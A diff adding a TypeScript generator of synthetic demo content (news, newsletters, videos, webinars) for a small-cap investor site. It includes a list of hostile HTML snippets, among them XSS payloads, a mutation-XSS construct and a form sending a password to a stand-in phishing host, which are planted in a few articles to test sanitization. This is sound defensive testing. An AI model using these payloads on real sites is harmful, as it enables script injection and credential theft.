@@ -1,0 +1,289 @@
+/**
+ * Demo content: two years of news about the universe's companies, the weekly
+ * newsletter, the video library and the weekly sponsored TV show, and
+ * upcoming and past webinars. Deterministic for a seed; article bodies are
+ * real HTML (headings, lists, tables, images, links), and a few carry
+ * hostile markup so the sanitizing on every path is exercised.
+ */
+import { addDays } from '../../lib/market-calendar.ts';
+import { createRandom, type Random } from '../../lib/random.ts';
+import type { events, news, videos } from '../db/schema.ts';
+
+export type NewsRow = typeof news.$inferInsert;
+export type VideoRow = typeof videos.$inferInsert;
+export type EventRow = typeof events.$inferInsert;
+
+export interface ContentCompany {
+  symbol: string;
+  name: string;
+  sectorName: string;
+  sicCode: number;
+  isClient: boolean;
+  lastSale: number | null;
+}
+
+export interface DemoContent {
+  news: NewsRow[];
+  videos: VideoRow[];
+  events: EventRow[];
+}
+
+export const NEWS_PER_DAY = 8;
+const DAYS = 730;
+
+/** Markup that must never run: kept in a few articles to prove every sanitizing step. */
+export const HOSTILE_SNIPPETS = [
+  '<script>document.body.dataset.pwned = "script"</script>',
+  '<img src="/nope.png" onerror="document.body.dataset.pwned = \'onerror\'">',
+  '<a href="javascript:document.body.dataset.pwned=\'href\'">Read the filing</a>',
+  '<iframe src="javascript:parent.document.body.dataset.pwned=\'iframe\'"></iframe>',
+  '<svg onload="document.body.dataset.pwned=\'svg\'"><circle r="4"></circle></svg>',
+  '<p style="background:url(javascript:alert(1))" onmouseover="document.body.dataset.pwned=\'hover\'">Hover</p>',
+  '<form action="https://phish.example/steal"><input name="password"></form>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="document.body.dataset.pwned=\'mxss\'"></style></mglyph></table></mtext></math>',
+];
+
+const SOURCES = ['RedCap Newswire', 'Business Wire', 'GlobeNewswire', 'PR Newswire', 'Accesswire'];
+
+interface Story {
+  /** Headline and first paragraph, drawn from the same figures. */
+  write: (c: ContentCompany, r: Random) => { title: string; lead: string };
+  /** Only for some sectors (clinical news for life sciences). */
+  sectors?: readonly string[];
+}
+
+const money = (r: Random, min: number, max: number) => `$${r.between(min, max).toFixed(1)} million`;
+const quarter = (r: Random) => `${r.pick(['first', 'second', 'third', 'fourth'])} quarter`;
+const title = (text: string) => text.replace(/\b([a-z])/g, (m) => m.toUpperCase());
+
+const STORIES: readonly Story[] = [
+  {
+    write: (c, r) => {
+      const q = quarter(r);
+      return {
+        title: `${c.name} Reports ${r.pick(['Record', 'Strong', 'Higher', 'Improved'])} ${title(q)} Revenue`,
+        lead: `${c.name} (${c.symbol}) reported revenue of ${money(r, 4, 180)} for the ${q}, up ${r.int(3, 64)}% from a year earlier, and reaffirmed its full-year outlook.`,
+      };
+    },
+  },
+  {
+    write: (c, r) => {
+      const value = money(r, 2, 90);
+      const kind = r.pick(['Contract', 'Order', 'Supply Agreement']);
+      return {
+        title: `${c.name} Wins ${value} ${kind}`,
+        lead: `${c.name} (${c.symbol}) has been awarded a multi-year ${kind.toLowerCase()} valued at ${value}, its largest to date, with deliveries starting next ${r.pick(['quarter', 'year'])}.`,
+      };
+    },
+  },
+  {
+    write: (c, r) => ({
+      title: `${c.name} Announces ${r.pick(['Positive Topline Data', 'FDA Fast Track Designation', 'Phase 2 Enrollment Completion', 'IND Clearance'])}`,
+      lead: `${c.name} (${c.symbol}) today announced a milestone in its lead program, with ${r.int(40, 420)} patients across ${r.int(8, 60)} sites and data expected to support the next regulatory step.`,
+    }),
+    sectors: ['Life Sciences'],
+  },
+  {
+    write: (c, r) => {
+      const value = money(r, 5, 60);
+      return {
+        title: `${c.name} Closes ${value} ${r.pick(['Registered Direct Offering', 'Private Placement', 'Credit Facility'])}`,
+        lead: `${c.name} (${c.symbol}) has closed a financing of ${value}; proceeds fund ${r.pick(['growth', 'working capital', 'the product roadmap', 'expansion into new markets'])}.`,
+      };
+    },
+  },
+  {
+    write: (c, r) => ({
+      title: `${c.name} Launches ${r.pick(['Next-Generation Platform', 'New Product Line', 'Expanded Service Offering'])}`,
+      lead: `${c.name} (${c.symbol}) introduced its newest offering, built on customer feedback and aimed at a larger share of its core market.`,
+    }),
+  },
+  {
+    write: (c, r) => {
+      const firm = r.pick(['a regional', 'a specialist', 'an independent']);
+      return {
+        title: `Analyst Initiates Coverage of ${c.name} with ${r.pick(['Buy', 'Outperform', 'Overweight'])} Rating`,
+        lead: `${firm[0]!.toUpperCase()}${firm.slice(1)} research firm began covering ${c.name} (${c.symbol}) with a price target implying ${r.int(20, 140)}% upside.`,
+      };
+    },
+  },
+  {
+    write: (c) => ({
+      title: `${c.name} to Present at the RedCap Virtual Small-Cap Conference`,
+      lead: `Management of ${c.name} (${c.symbol}) will present and take investor questions live; a replay will be available afterwards.`,
+    }),
+  },
+  {
+    write: (c, r) => ({
+      title: `${c.name} Appoints New ${r.pick(['Chief Financial Officer', 'Chief Operating Officer', 'Board Member', 'Chief Medical Officer'])}`,
+      lead: `${c.name} (${c.symbol}) named an executive with ${r.int(12, 30)} years of experience to its leadership team, effective immediately.`,
+    }),
+  },
+];
+
+function articleBody(c: ContentCompany, lead: string, r: Random, coverPath: string): string {
+  const revenue = r.between(5, 200);
+  const growth = r.int(-10, 60);
+  const rows = [
+    ['Revenue', `$${revenue.toFixed(1)}M`, `${growth > 0 ? '+' : ''}${growth}%`],
+    ['Gross margin', `${r.int(20, 75)}%`, `${r.int(-3, 6)} pts`],
+    ['Cash and equivalents', `$${r.between(3, 120).toFixed(1)}M`, '—'],
+  ];
+  return [
+    `<p>${lead}</p>`,
+    `<figure><img src="${coverPath}" alt="${c.name}" width="1200" height="630"><figcaption>${c.name} (${c.symbol})</figcaption></figure>`,
+    `<h2>Highlights</h2>`,
+    `<ul>${Array.from({ length: r.int(3, 5) }, (_, i) => `<li>${['Expanded customer base', 'Improved unit economics', 'Strengthened balance sheet', 'New distribution partners', 'Pipeline progress on schedule'][i]}</li>`).join('')}</ul>`,
+    `<h2>Key figures</h2>`,
+    `<table><thead><tr><th scope="col">Measure</th><th scope="col">Value</th><th scope="col">Change</th></tr></thead><tbody>${rows
+      .map(([a, b, d]) => `<tr><td>${a}</td><td>${b}</td><td>${d}</td></tr>`)
+      .join('')}</tbody></table>`,
+    `<h3>Management commentary</h3>`,
+    `<blockquote>“We executed on every priority we set for the period and enter the next one with momentum,” said the chief executive of ${c.name}.</blockquote>`,
+    `<p>Read more on the <a href="/stocks/${c.symbol}">${c.symbol} company page</a> or in the company's <a href="https://www.sec.gov/cgi-bin/browse-edgar?action=getcompany&amp;CIK=${c.symbol}">SEC filings</a>.</p>`,
+    `<h3>About ${c.name}</h3>`,
+    `<p>${c.name} is a ${c.sectorName.toLowerCase()} company listed in the United States. This article is demo content generated for demonstration.</p>`,
+  ].join('\n');
+}
+
+const NEWSLETTER_BENEFITS = ['Top performers of the week', 'CEO interview of the week', 'Upcoming webinars'];
+
+function newsletterBody(week: string, picks: ContentCompany[], coverPath: string): string {
+  return [
+    `<p>Your weekly small-cap briefing for the week ending ${week}.</p>`,
+    `<img src="${coverPath}" alt="Newsletter ${week}" width="1200" height="630">`,
+    `<h2>This week's picks</h2>`,
+    `<ol>${picks.map((c) => `<li><a href="/stocks/${c.symbol}">${c.name} (${c.symbol})</a>: ${c.sectorName}</li>`).join('')}</ol>`,
+    `<h2>Inside</h2>`,
+    `<ul>${NEWSLETTER_BENEFITS.map((b) => `<li>${b}</li>`).join('')}</ul>`,
+    `<p>Demo newsletter generated for demonstration.</p>`,
+  ].join('\n');
+}
+
+/** Generated cover images (see the covers route): by company, by newsletter date, by video kind. */
+const companyCover = (symbol: string, variant: number) => `/api/covers/company/${symbol}.svg?v=${variant}`;
+const videoCover = (symbol: string, type: string) => `/api/covers/video/${symbol}.svg?type=${encodeURIComponent(type)}`;
+
+const YOUTUBE_ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
+const youtubeId = (r: Random) => Array.from({ length: 11 }, () => r.pick([...YOUTUBE_ALPHABET])).join('');
+
+/** Noon New York time on a date, as an instant; `minutes` spreads items over the day. */
+const nyInstant = (date: string, minutes: number) =>
+  new Date(new Date(`${date}T07:00:00-05:00`).getTime() + minutes * 60_000);
+
+export function generateContent(seed: string, asOf: string, companies: readonly ContentCompany[]): DemoContent {
+  const random = createRandom(`${seed}:content`);
+  const newsRows: NewsRow[] = [];
+  const clients = companies.filter((c) => c.isClient);
+  // Clients get more coverage, as on the real site.
+  const pickCompany = (r: Random) => (clients.length && r.chance(0.18) ? r.pick(clients) : r.pick(companies));
+
+  // About one weekday story per 500 companies, up to NEWS_PER_DAY: small test universes get less news.
+  const weekdayNews = Math.max(1, Math.min(NEWS_PER_DAY, Math.round(companies.length / 500)));
+  for (let day = DAYS - 1; day >= 0; day--) {
+    const date = addDays(asOf, -day);
+    const weekday = new Date(`${date}T12:00:00Z`).getUTCDay();
+    const perDay = weekday === 0 || weekday === 6 ? 2 : weekdayNews + random.int(0, 2);
+    for (let i = 0; i < perDay; i++) {
+      const r = random.fork(`news:${date}:${i}`);
+      const company = pickCompany(r);
+      const choices = STORIES.filter((s) => !s.sectors || s.sectors.includes(company.sectorName));
+      const story = r.pick(choices);
+      const cover = companyCover(company.symbol, r.int(0, 5));
+      const { title, lead } = story.write(company, r);
+      let body = articleBody(company, lead, r, cover);
+      if (r.chance(0.01)) body += `\n${r.pick(HOSTILE_SNIPPETS)}`;
+      newsRows.push({
+        title,
+        summary: lead,
+        description: body,
+        thumbnail: cover,
+        publishedAt: nyInstant(date, r.int(0, 11 * 60)),
+        companySymbol: company.symbol,
+        source: r.pick(SOURCES),
+        url: null,
+        rcNewsletter: false,
+      });
+    }
+    if (weekday === 5) {
+      const picks = Array.from({ length: 5 }, () => random.pick(companies));
+      const stamp = date.replaceAll('-', '');
+      newsRows.push({
+        title: `RedCap Weekly: ${picks[0]!.name} and ${picks.length - 1} more small caps to watch`,
+        summary: `Our picks for the week ending ${date}: ${picks.map((c) => c.symbol).join(', ')}.`,
+        description: newsletterBody(date, picks, `/api/covers/newsletter/${stamp}.svg`),
+        thumbnail: `/api/covers/newsletter/${stamp}.svg`,
+        publishedAt: nyInstant(date, 9 * 60),
+        companySymbol: picks[0]!.symbol,
+        source: 'RedCap Weekly',
+        url: null,
+        rcNewsletter: true,
+      });
+    }
+  }
+
+  const videoRows: VideoRow[] = [];
+  const videoCompanies = [...clients, ...companies.filter((c) => !c.isClient)].slice(0, 260);
+  for (const [i, company] of videoCompanies.entries()) {
+    const r = random.fork(`video:${company.symbol}`);
+    const kinds: ('Interview' | 'Overview' | 'Presentation' | 'Webinar' | 'Commercial')[] = company.isClient
+      ? ['Interview', 'Overview', 'Presentation']
+      : [r.pick(['Interview', 'Overview', 'Presentation', 'Webinar', 'Commercial'] as const)];
+    for (const type of kinds) {
+      const published = nyInstant(addDays(asOf, -r.int(1, DAYS - 1)), r.int(0, 600));
+      videoRows.push({
+        name: `${company.name}: ${type === 'Interview' ? 'CEO Interview' : type === 'Overview' ? 'Company Overview' : type === 'Commercial' ? 'In 30 Seconds' : `${type} for Investors`}`,
+        description: `${type === 'Interview' ? 'The chief executive of' : 'An introduction to'} ${company.name} (${company.symbol}), a ${company.sectorName.toLowerCase()} company: strategy, recent results, catalysts ahead and questions from investors. Demo video generated for demonstration.`,
+        youtubeId: youtubeId(r),
+        // A few cards have no thumbnail of their own and use the video host's.
+        thumbnailUrl: r.chance(0.06) ? null : videoCover(company.symbol, type),
+        type,
+        published: r.chance(0.03) ? null : published,
+        companySymbol: company.symbol,
+        sicCode: company.sicCode,
+        exclusive: r.chance(0.08),
+        disabled: r.chance(0.02),
+        thirtysecs: type === 'Commercial',
+        videoFeatured: company.isClient && type === 'Interview' && i % 3 === 0,
+      });
+    }
+  }
+  // The sponsored TV show: one episode a week, Saturdays 7PM EST.
+  for (let week = 0; week < 26; week++) {
+    let date = addDays(asOf, -7 * week);
+    while (new Date(`${date}T12:00:00Z`).getUTCDay() !== 6) date = addDays(date, -1);
+    const featured = random.pick(companies);
+    videoRows.push({
+      name: `RedCap Small-Cap TV: Episode ${260 - week}`,
+      description: `This week: ${featured.name} (${featured.symbol}) and the small caps moving the market. Airs Saturdays at 7PM EST. Demo episode generated for demonstration.`,
+      youtubeId: youtubeId(random),
+      thumbnailUrl: videoCover(featured.symbol, 'TV Show'),
+      type: 'TV Show',
+      published: new Date(`${date}T19:00:00-05:00`),
+      companySymbol: featured.symbol,
+      sicCode: featured.sicCode,
+      videoFeatured: week === 0,
+    });
+  }
+
+  const eventRows: EventRow[] = [];
+  for (const [i, company] of [...clients, ...companies.slice(0, 20)].entries()) {
+    const r = random.fork(`event:${company.symbol}:${i}`);
+    const offset = r.int(-180, 60);
+    const date = addDays(asOf, offset);
+    const past = offset < 0;
+    const zoomId = String(8_000_000_000 + r.int(0, 999_999_999));
+    eventRows.push({
+      title: `${company.name} Investor Webinar`,
+      companySymbol: company.symbol,
+      upcomingDate: new Date(`${date}T${r.pick(['11', '13', '14', '16'])}:00:00-05:00`),
+      isActive: true,
+      archived: past,
+      archiveUrl: past ? `https://www.youtube.com/watch?v=${youtubeId(r)}` : null,
+      zoomUrl: `https://zoom.us/webinar/register/WN_${zoomId}`,
+      formUrl: `webinar-${zoomId}`,
+      zoomId,
+    });
+  }
+  return { news: newsRows, videos: videoRows, events: eventRows };
+}
